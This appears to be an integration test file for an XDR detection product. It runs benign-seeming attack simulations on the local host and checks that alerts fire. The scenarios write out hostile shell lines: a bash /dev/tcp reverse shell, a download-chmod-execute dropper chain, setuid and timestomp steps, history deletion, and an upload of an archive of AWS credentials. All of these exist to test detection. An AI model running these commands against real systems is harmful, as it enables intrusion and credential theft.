// Attack scenarios on this host: a real agent (netlink process sensor, file sensor on a temp dir
// under /tmp, network sensor) and a real collector with the built-in content. Each scenario runs
// real, harmless attack steps (temp dirs under /tmp, this host's own addresses only) and asserts,
// through the API, the Observed Attack Techniques and exactly one Workbench alert of the expected
// model with its highlights. A benign admin sequence makes no alert.
// Every process here is a child of this test worker, so they all share one process lineage (as
// the commands of one SSH session would): the scenarios are ordered so that no step completes
// another scenario's model. Host-grouped models also see the whole host, so alerts are checked
// by model and by this run's unique temp paths.
// Needs root (netlink process connector), as the agent does in production.
import { execFile, spawn, spawnSync } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { copyFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer as createTcpServer, type AddressInfo, type Socket } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, enrollAgent, startAgent, startCollector, tempDir, waitFor, type AgentProcess, type CollectorProcess } from './harness.js';
import { HOST_LOCK_WAIT_MS, lockHostForAttacks } from './host-lock.js';

// the filters (OAT rule ids) each scenario must trip
const FILTERS = {
  downloadToTemp: 'ae6150b5-5746-514a-a4a1-db2f6fcd6040', // xdr_c2_download_to_temp, T1105
  chmodExecInTemp: '22b685f3-7e42-561f-b87e-cdc1b53d38ff', // xdr_de_chmod_exec_in_temp, T1222.002
  execFromTemp: '7df1c155-0c13-52c1-8c31-799ef5dfb9e5', // xdr_exec_from_temp_dir, T1204.002
  devTcpShell: 'e334c075-572e-5afc-855c-473b5c4bf2ff', // xdr_c2_reverse_shell_dev_tcp, T1059.004 T1095
  shellConnection: 'ed18e411-dc36-572e-8b3c-7bfbd79d1346', // xdr_c2_shell_network_connection, T1059.004 T1095
  setuidChmod: 'd6f291de-7435-5b71-ae55-de34d263c8dc', // xdr_privesc_setuid_chmod, T1548.001
  timestomp: '0d596e90-872f-5220-932f-3115500c4e3a', // xdr_de_timestomp, T1070.006
  credFiles: '77d0cb1c-6a9f-5c91-839a-1f5f2da9427a', // xdr_cred_files_with_secrets, T1552.001
  httpUpload: '570add19-4334-5b3d-8b17-63f95b27568b', // xdr_exfil_http_upload, T1048
  executableDeleted: 'ee41de61-74ac-5353-9d8a-a73bda6616e1', // xdr_de_executable_deleted_from_temp, T1070.004
};

const MODELS = {
  dropper: 'c2e3e862-46f3-59aa-b9a9-881667bf83d9', // xdr_model_dropper_chain
  reverseShell: '41c3f128-aee0-55bf-b943-99388d7915a0', // xdr_model_reverse_shell
  privescLogs: 'c0db00bb-fa16-5df8-90a2-24060ef76783', // xdr_model_privesc_then_log_tampering
  credExfil: '23c9be7a-44f0-5d96-b2eb-fc13577966ee', // xdr_model_credential_theft_exfiltration
  selfDeleting: '3cd38936-0ea9-52ae-a9c0-0a6e41ae85e5', // xdr_model_self_deleting_payload
};

const isRoot = process.getuid?.() === 0;
let c: CollectorProcess;
let agent: AgentProcess;
let agentId: string;
let hostId: string;
let http: HttpServer;
let httpPort: number;
const uploads: string[] = [];
// every attack step happens under here (a 0700 mkdtemp dir in /tmp, watched by the file sensor)
const watched = tempDir('scen');
const scratch: string[] = [watched];

interface Oat { rule_id: string; rule_title: string; techniques: string[]; risk: string; process_entity_id: string | null; event_id: string; event: Record<string, unknown> }

interface Alert {
  id: string; model_id: string; level: string; score: number; firings: number; techniques: string[]; event_ids: string[];
  score_parts: { base: number; oat_points: number; breadth: number; factor: number };
  oats: { count: number; filters: Array<{ id: string; title: string; level: string; count: number }> };
  highlights: Record<'commands' | 'source_ips' | 'destination_ips' | 'files', Array<{ value: string; count: number; event_ids: string[] }>>;
}

function oatIds(a: Alert): string[] {
  return a.oats.filters.map((f) => f.id);
}

function values(a: Alert, kind: keyof Alert['highlights']): string[] {
  return (a.highlights[kind] ?? []).map((h) => h.value);
}

/** A fresh directory for one scenario under the watched dir (so /tmp/... paths and file events). */
function scenarioDir(name: string): string {
  const dir = join(watched, `${name}-${randomUUID().slice(0, 8)}`);
  mkdirSync(dir, { mode: 0o700 });
  return dir;
}

/** Runs a command to completion (bounded), as root, with HOME in a temp dir (no rc files, no history of ours). */
// (asynchronous: the test's own HTTP server must answer while it runs)
function sh(script: string, cwd: string): Promise<{ status: number | null; stdout: string; stderr: string }> {
  return new Promise((done) => {
    execFile('/bin/bash', ['-c', script], { cwd, env: { ...process.env, HOME: cwd, HISTFILE: join(cwd, '.hist') }, timeout: 20_000, encoding: 'utf8' },
      (err, stdout, stderr) => done({ status: err ? (typeof err.code === 'number' ? err.code : null) : 0, stdout, stderr }));
  });
}

async function alertsOf(model: string): Promise<Alert[]> {
  const r = await api(c, `/api/v1/alerts?model=${model}&limit=1000`);
  expect(r.status).toBe(200);
  return r.body.alerts;
}

/** Exactly one alert of the model, read in full (highlights, scope, OATs). */
async function theAlert(model: string, mentions: string): Promise<Alert> {
  const [first] = await waitFor(`an alert of model ${model}`, async () => {
    const all = await alertsOf(model);
    return all.length ? all : undefined;
  }, 45_000, 500);
  // let the rest of the attack's events through detection: it must still be one alert
  await new Promise((r) => setTimeout(r, 2500));
  const all = await alertsOf(model);
  expect(all.map((a) => a.id)).toEqual([first.id]);
  const full = (await api<Alert>(c, `/api/v1/alerts/${first.id}`)).body;
  expect(JSON.stringify(full.highlights)).toContain(mentions);
  // the documented score formula holds
  const p = full.score_parts;
  expect(full.score).toBe(Math.round(Math.min(100, (p.base + p.oat_points + p.breadth) * p.factor)));
  // its techniques are those observed (the OATs behind it), and breadth counts exactly them
  const observed = new Set<string>();
  for (const id of oatIds(full)) {
    const r = await api<{ oats: Oat[] }>(c, `/api/v1/oat?rule_id=${encodeURIComponent(id)}&limit=1`);
    for (const t of r.body.oats[0]?.techniques ?? []) observed.add(t);
  }
  expect(full.techniques.filter((t) => !observed.has(t))).toEqual([]);
  expect(p.breadth).toBe(Math.min(10, 2 * (full.techniques.length - 1)));
  return full;
}

/** The OATs of this host (rule titles and techniques) whose event mentions the scenario's marker. */
async function oatsMentioning(marker: string, techniques: string[]): Promise<Oat[]> {
  return waitFor(`OATs for ${techniques.join(', ')} mentioning ${marker}`, async () => {
    const r = await api(c, `/api/v1/oat?host=${encodeURIComponent(hostId)}&limit=10000&with_event=true`);
    if (r.status !== 200) throw new Error(`oat: ${r.status} ${JSON.stringify(r.body)}`);
    const mine = (r.body.oats as Oat[])
      .filter((o) => JSON.stringify(o.event).includes(marker));
    const seen = new Set(mine.flatMap((o) => o.techniques));
    return techniques.every((t) => seen.has(t)) ? mine : undefined;
  }, 30_000, 500);
}

async function eventsMentioning(query: string): Promise<Record<string, any>[]> {
  const r = await api(c, `/api/v1/events?agent.id=${agentId}&${query}&limit=1000`);
  return r.status === 200 ? r.body.events : [];
}

/** This host's own non-loopback IPv4 address: traffic to it is routed through the loopback device and never leaves the host. */
function ownAddress(): string | undefined {
  for (const list of Object.values(networkInterfaces())) {
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  }
  return undefined;
}

let releaseHostLock: (() => void) | undefined;

beforeAll(async () => {
  http = createHttpServer((req, res) => {
    if (req.method === 'PUT' || req.method === 'POST') {
      const chunks: Buffer[] = [];
      req.on('data', (d) => chunks.push(d));
      req.on('end', () => { uploads.push(`${req.url}:${Buffer.concat(chunks).length}`); res.end('ok\n'); });
      return;
    }
    if (req.url?.startsWith('/payload')) res.end(readFileSync('/usr/bin/sleep'));
    else res.end('hello\n');
  });
  await new Promise<void>((r) => http.listen(0, '127.0.0.1', r));
  httpPort = (http.address() as AddressInfo).port;
  if (!isRoot) return;
  releaseHostLock = await lockHostForAttacks();
  const dataDir = tempDir('scen-collector');
  scratch.push(dataDir);
  c = await startCollector(dataDir);
  const stateDir = tempDir('scen-agent');
  scratch.push(stateDir);
  agentId = await enrollAgent(c, stateDir);
  const config = join(stateDir, 'agent.yaml');
  writeFileSync(config, ['sensors:', '  file:', `    paths: [${watched}]`, '  login:', '    enabled: false'].join('\n'));
  agent = startAgent(stateDir, ['--config', config, '--log-level', 'warn']);
  await waitFor('the agent online', async () => (await api(c, '/api/v1/agents')).body.find((a: { id: string; online: boolean }) => a.id === agentId && a.online), 20_000);
  // the sensors are up when a marker process is seen; its host.id is the one detection groups by
  const marker = `scen-ready-${randomUUID()}`;
  const ready = await waitFor('the process sensor', async () => {
    spawnSync('/bin/true', [marker]);
    const ev = await eventsMentioning(`process.args=${marker}&event.action=process_started`);
    return ev[0];
  }, 20_000, 1000);
  hostId = ready['host.id'];
  expect(hostId).toBeTruthy();
}, 60_000 + HOST_LOCK_WAIT_MS);

afterAll(async () => {
  releaseHostLock?.();
  await agent?.stop();
  await c?.stop();
  await new Promise((r) => http?.close(r));
  for (const d of scratch) rmSync(d, { recursive: true, force: true });
});

describe('attack scenarios on this host', { skip: !isRoot }, () => {
  it('benign admin commands make no alert', async () => {
    const dir = scenarioDir('benign');
    writeFileSync(join(dir, 'app.conf'), 'port=8080\n');
    const steps = [
      'uptime', 'df -h', 'free -m', 'ls -la /var/log', `ls -la ${dir}`, 'date -u',
      `curl -s -o /dev/null http://127.0.0.1:${httpPort}/health`,
      `cp ${dir}/app.conf ${dir}/app.conf.bak`, `chmod 640 ${dir}/app.conf`,
      `tar czf ${dir}/conf-backup.tgz -C ${dir} app.conf`, `grep -c port ${dir}/app.conf`, `sha256sum ${dir}/app.conf`,
    ];
    for (const s of steps) expect((await sh(s, dir)).status, s).toBe(0);
    // all of it reached the collector (the last step is seen) and went through detection
    await waitFor('the benign events', async () => (await eventsMentioning(`process.name=sha256sum&event.action=process_started`))
      .some((e) => String(e['process.command_line']).includes(dir)) || undefined, 20_000, 500);
    await new Promise((r) => setTimeout(r, 4000));
    const r = await api(c, '/api/v1/alerts?limit=1000');
    expect(r.status).toBe(200);
    const touching = (r.body.alerts as Alert[]).filter((a) => JSON.stringify(a).includes(dir));
    expect(touching).toEqual([]);
  }, 40_000);

  it('dropper: curl into /tmp, chmod +x, run it, in one shell (xdr_model_dropper_chain)', async () => {
    const dir = scenarioDir('dropper');
    const payload = join(dir, 'payload');
    const download = `curl -s -o ${payload} http://127.0.0.1:${httpPort}/payload`;
    const r = await sh(`${download} && chmod +x ${payload} && ${payload} 1; echo done`, dir);
    expect(r.status, r.stderr).toBe(0);

    const oats = await oatsMentioning(payload, ['T1105', 'T1222.002', 'T1204.002']);
    expect(oats.map((o) => o.rule_id)).toEqual(expect.arrayContaining([FILTERS.downloadToTemp, FILTERS.chmodExecInTemp, FILTERS.execFromTemp]));
    const a = await theAlert(MODELS.dropper, payload);
    expect(a).toMatchObject({ level: 'high', firings: 1 });
    expect(a.techniques).toEqual(expect.arrayContaining(['T1105', 'T1222.002', 'T1204.002']));
    expect(values(a, 'commands')).toEqual(expect.arrayContaining([download, `chmod +x ${payload}`, `${payload} 1`]));
    expect(values(a, 'files')).toContain(payload);
    expect(oatIds(a)).toEqual(expect.arrayContaining([FILTERS.downloadToTemp, FILTERS.chmodExecInTemp, FILTERS.execFromTemp]));
    // the highlighted command is the stored event behind it
    const h = a.highlights.commands.find((x) => x.value === download)!;
    const [ev] = (await api(c, `/api/v1/events?event.id=${encodeURIComponent(h.event_ids[0])}`)).body.events;
    expect(ev).toMatchObject({ 'process.command_line': download, 'process.executable': expect.stringMatching(/\/curl$/), 'event.action': 'process_started' });
  }, 90_000);

  const ip = ownAddress();
  it.skipIf(!ip)('reverse shell: bash -i over /dev/tcp to a listener, commands through it (xdr_model_reverse_shell)', async () => {
    // The model ignores connections to 127.0.0.0/8 by design, so the listener is on this host's own
    // address (delivered through the loopback device: nothing leaves the host).
    const dir = scenarioDir('revshell');
    const got: string[] = [];
    let conn: Socket | undefined;
    const server = createTcpServer((s) => {
      conn = s;
      s.on('data', (d) => got.push(d.toString()));
      // hold the connection beyond two network-sensor polls, then drive the shell and make it exit
      setTimeout(() => s.write(`id; whoami; uname -a; echo ${'MARK'}-$((6*7))\n`), 2500);
      setTimeout(() => s.write('exit\n'), 4500);
    }).listen(0, ip!);
    await new Promise((r) => server.once('listening', r));
    const port = (server.address() as AddressInfo).port;
    const line = `bash -i >& /dev/tcp/${ip}/${port} 0>&1`;
    const child = spawn('/bin/bash', ['-c', line], { cwd: dir, env: { ...process.env, HOME: dir, HISTFILE: join(dir, '.hist') }, stdio: 'ignore' });
    const exited = new Promise<number | null>((r) => child.once('exit', (code) => r(code)));
    const guard = setTimeout(() => child.kill('SIGKILL'), 15_000);
    try {
      await exited;
    } finally {
      clearTimeout(guard);
      conn?.destroy();
      server.close();
    }
    expect(got.join('')).toContain('MARK-42');

    const oats = await oatsMentioning(`/dev/tcp/${ip}/${port}`, ['T1059.004', 'T1095']);
    expect(oats.map((o) => o.rule_id)).toContain(FILTERS.devTcpShell);
    const a = await theAlert(MODELS.reverseShell, `/dev/tcp/${ip}/${port}`);
    expect(a).toMatchObject({ level: 'critical', firings: 1 });
    expect(a.techniques).toEqual(expect.arrayContaining(['T1059.004', 'T1095']));
    expect(values(a, 'commands')).toEqual(expect.arrayContaining([expect.stringContaining(line)]));
    expect(values(a, 'destination_ips')).toContain(ip);
    // the shell's own outbound connection is in the alert
    const conns = await eventsMentioning(`event.action=connection_attempted&destination.port=${port}`);
    expect(conns[0]).toMatchObject({ 'destination.ip': ip, 'network.direction': 'egress', 'process.executable': expect.stringMatching(/\/bash$/) });
    expect(a.event_ids).toContain(conns[0]['event.id']);
    expect(oatIds(a)).toEqual(expect.arrayContaining([FILTERS.devTcpShell, FILTERS.shellConnection]));
    const [connOat] = (await api(c, `/api/v1/oat?rule_id=${FILTERS.shellConnection}&event_id=${encodeURIComponent(conns[0]['event.id'])}`)).body.oats as Oat[];
    expect(connOat).toMatchObject({ risk: 'high', techniques: expect.arrayContaining(['T1059.004', 'T1095']), process_entity_id: conns[0]['process.entity_id'] });
    // the commands typed into the shell ran as its children and were seen as discovery
    const disc = await waitFor('discovery OATs from the shell', async () => {
      const r = await api(c, `/api/v1/oat?host=${encodeURIComponent(hostId)}&technique=T1082&limit=1000&with_event=true`);
      return (r.body.oats as Array<{ event: Record<string, unknown> }>).find((o) => o.event['process.command_line'] === 'uname -a'
        && o.event['process.parent.entity_id'] === conns[0]['process.entity_id']);
    }, 20_000, 500);
    expect(disc).toBeTruthy();
  }, 90_000);

  it('privilege escalation then evidence removal: setuid copy, timestomp, history wiped (xdr_model_privesc_then_log_tampering)', async () => {
    const dir = scenarioDir('privesc');
    const helper = join(dir, 'helper');
    copyFileSync('/usr/bin/true', helper);
    const history = join(dir, '.bash_history');
    writeFileSync(history, 'echo hello\n');
    const suid = `chmod u+s ${helper}`;
    expect((await sh(suid, dir)).status).toBe(0);
    await new Promise((r) => setTimeout(r, 1500)); // the steps come in order, as an intruder types them
    const stomp = `touch -r /usr/bin/true ${helper}`;
    const wipe = `rm -f ${history}`;
    expect((await sh(stomp, dir)).status).toBe(0);
    expect((await sh(wipe, dir)).status).toBe(0);

    const oats = await oatsMentioning(dir, ['T1548.001', 'T1070.006', 'T1070.003']);
    expect(oats.map((o) => o.rule_id)).toEqual(expect.arrayContaining([FILTERS.setuidChmod, FILTERS.timestomp]));
    const a = await theAlert(MODELS.privescLogs, helper);
    expect(a).toMatchObject({ level: 'critical' });
    expect(a.techniques).toEqual(expect.arrayContaining(['T1548.001']));
    expect(a.techniques.some((t) => t === 'T1070.006' || t === 'T1070.003')).toBe(true);
    expect(values(a, 'commands')).toContain(suid);
    expect(oatIds(a)).toContain(FILTERS.setuidChmod);
    expect(values(a, 'commands').some((v) => v === stomp || v === wipe)).toBe(true);
  }, 90_000);

  it('credential theft then upload: read cloud credentials, archive, curl -T to a listener (xdr_model_credential_theft_exfiltration)', async () => {
    const dir = scenarioDir('exfil');
    mkdirSync(join(dir, '.aws'));
    const creds = join(dir, '.aws/credentials');
    writeFileSync(creds, '[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE00\naws_secret_access_key = not-a-real-secret\n');
    const read = `cat ${creds}`;
    expect((await sh(`${read} > /dev/null`, dir)).status).toBe(0);
    await new Promise((r) => setTimeout(r, 1500));
    const loot = join(dir, 'loot.tgz');
    expect((await sh(`tar czf ${loot} -C ${dir} .aws`, dir)).status).toBe(0);
    const upload = `curl -s -T ${loot} http://127.0.0.1:${httpPort}/upload/${randomUUID()}`;
    const r = await sh(upload, dir);
    expect(r.status, r.stderr).toBe(0);
    expect(uploads.some((u) => u.startsWith('/upload/'))).toBe(true);

    const oats = await oatsMentioning(dir, ['T1552.001', 'T1048']);
    expect(oats.map((o) => o.rule_id)).toEqual(expect.arrayContaining([FILTERS.credFiles, FILTERS.httpUpload]));
    const a = await theAlert(MODELS.credExfil, loot);
    expect(a).toMatchObject({ level: 'critical', firings: 1 });
    expect(a.techniques).toEqual(expect.arrayContaining(['T1552.001', 'T1048']));
    expect(values(a, 'commands')).toEqual(expect.arrayContaining([expect.stringContaining(read), upload]));
    expect(oatIds(a)).toEqual(expect.arrayContaining([FILTERS.credFiles, FILTERS.httpUpload]));
  }, 90_000);

  it('self-deleting payload: a program runs from /tmp, then its file is removed (xdr_model_self_deleting_payload)', async () => {
    const dir = scenarioDir('selfdel');
    const payload = join(dir, 'updater');
    const run = `${payload} 1`;
    const r = await sh(`cp /usr/bin/sleep ${payload} && ${run} && rm -f ${payload}; echo done`, dir);
    expect(r.status, r.stderr).toBe(0);

    const oats = await oatsMentioning(payload, ['T1204.002', 'T1070.004']);
    expect(oats.map((o) => o.rule_id)).toEqual(expect.arrayContaining([FILTERS.execFromTemp, FILTERS.executableDeleted]));
    const a = await theAlert(MODELS.selfDeleting, payload);
    expect(a).toMatchObject({ level: 'high', firings: 1 });
    expect(a.techniques).toEqual(expect.arrayContaining(['T1204.002', 'T1070.004']));
    expect(values(a, 'commands')).toContain(run);
    expect(values(a, 'files')).toContain(payload);
    expect(oatIds(a)).toEqual(expect.arrayContaining([FILTERS.execFromTemp, FILTERS.executableDeleted]));
    const deleted = a.highlights.files.find((x) => x.value === payload)!;
    const events = await Promise.all(deleted.event_ids.map(async (id) => (await api(c, `/api/v1/events?event.id=${encodeURIComponent(id)}`)).body.events[0]));
    expect(events.map((e) => e['event.action'])).toEqual(expect.arrayContaining(['process_started', 'file_deleted']));
  }, 90_000);
});
